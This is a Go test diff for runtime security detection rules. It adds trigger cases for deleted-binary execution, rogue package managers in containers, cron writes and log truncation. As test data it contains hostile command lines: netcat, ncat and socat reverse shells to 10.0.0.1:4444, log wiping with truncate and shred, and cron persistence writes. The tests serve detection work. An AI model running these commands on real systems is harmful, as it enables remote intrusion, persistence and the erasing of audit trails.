@@ -76,6 +76,9 @@ func TestDefaultRules(t *testing.T) {
 	runcMemfd.ExeFromMemfd = true
 	deleted := proc("payload", "/home/alice/payload (deleted)", "", bash)
 	deleted.ExeDeleted = true
+	// A dropper's usual form: written to /tmp, unlinked, run with fexecve.
+	deletedTmp := proc("3", "/tmp/.x/payload (deleted)", "", bash)
+	deletedTmp.ExeDeleted = true
 
 	tests := []struct {
 		rule    string
@@ -100,10 +103,11 @@ func TestDefaultRules(t *testing.T) {
 			[]*event.Event{exec(memfd, nil)},
 			[]*event.Event{exec(runcMemfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
 		{"Execution of Deleted Binary",
-			[]*event.Event{exec(deleted, nil)},
+			[]*event.Event{exec(deleted, nil), exec(deletedTmp, nil)},
 			[]*event.Event{exec(memfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
 		{"Package Manager Run in Container",
-			[]*event.Event{exec(proc("apt-get", "/usr/bin/apt-get", "install nmap", sh("")), c), exec(proc("apk", "/sbin/apk", "add curl", runc), c)},
+			[]*event.Event{exec(proc("apt-get", "/usr/bin/apt-get", "install nmap", sh("")), c), exec(proc("apk", "/sbin/apk", "add curl", runc), c),
+				exec(proc("apk", "/tmp/apk", "add curl", sh("")), c)},
 			[]*event.Event{exec(apt, nil), exec(proc("dpkg", "/usr/bin/dpkg", "", proc("apt-get", "/usr/bin/apt-get", "", runc)), c)}},
 		{"Netcat or Socat Reverse Shell",
 			[]*event.Event{
@@ -111,6 +115,7 @@ func TestDefaultRules(t *testing.T) {
 				exec(proc("ncat", "/usr/bin/ncat", "10.0.0.1 4444 --sh-exec /bin/bash", bash), c),
 				exec(proc("nc.traditional", "/usr/bin/nc.traditional", "-lvp 4444 -e /bin/bash", bash), nil),
 				exec(proc("socat", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr", bash), nil),
+				exec(proc("nc", "/tmp/nc", "-e /bin/sh 10.0.0.1 4444", bash), nil),
 			},
 			[]*event.Event{
 				exec(proc("nc", "/usr/bin/nc", "-zv my-example.com 443", bash), nil),
@@ -168,11 +173,15 @@ func TestDefaultRules(t *testing.T) {
 			[]*event.Event{read(proc("sshd", "/usr/sbin/sshd", "", initp), "/root/.ssh/authorized_keys")}},
 		{"Write to Cron Configuration",
 			[]*event.Event{write(proc("crontab", "/usr/bin/crontab", "-", bash), "/var/spool/cron/crontabs/root", 0),
-				write(proc("bash", "/usr/bin/bash", "", sshd), "/etc/cron.d/persist", 0)},
+				write(proc("bash", "/usr/bin/bash", "", sshd), "/etc/cron.d/persist", 0),
+				write(proc("vi", "/usr/bin/vi", "/etc/crontab", bash), "/etc/crontab", unix.O_TRUNC)},
 			[]*event.Event{read(proc("cron", "/usr/sbin/cron", "", initp), "/etc/crontab"),
 				write(dpkg, "/etc/cron.daily/apt-compat", 0)}},
 		{"Truncate Log File",
-			[]*event.Event{write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/auth.log", unix.O_TRUNC)},
+			[]*event.Event{write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/auth.log", unix.O_TRUNC),
+				// truncate(1) opens without O_TRUNC and calls ftruncate.
+				write(proc("truncate", "/usr/bin/truncate", "-s 0 /var/log/auth.log", bash), "/var/log/auth.log", 0),
+				write(proc("shred", "/usr/bin/shred", "-u /var/log/wtmp", bash), "/var/log/wtmp", 0)},
 			[]*event.Event{write(proc("logrotate", "/usr/sbin/logrotate", "", initp), "/var/log/syslog", unix.O_TRUNC),
 				write(proc("rsyslogd", "/usr/sbin/rsyslogd", "", initp), "/var/log/syslog", unix.O_APPEND),
 				write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/app.log", unix.O_APPEND)}},
@@ -197,8 +206,13 @@ func TestDefaultRules(t *testing.T) {
 		}
 		tested[tt.rule] = true
 		for i, e := range tt.trigger {
-			if got := matches(rs, e); !slices.Contains(got, tt.rule) {
-				t.Errorf("%s: trigger %d (%s %s) matched %v", tt.rule, i, e.Proc.Cmdline, e.Open.Name, got)
+			// The agent reports the first matching rule of an event
+			// (Falco's rule_matching: first): the rule must not be
+			// shadowed by a more general one.
+			first := ""
+			rs.Match(e, func(r *Rule) { first = r.Name })
+			if first != tt.rule {
+				t.Errorf("%s: trigger %d (%s %s) reported as %q (all matches: %v)", tt.rule, i, e.Proc.Cmdline, e.Open.Name, first, matches(rs, e))
 			}
 		}
 		for i, e := range tt.benign {
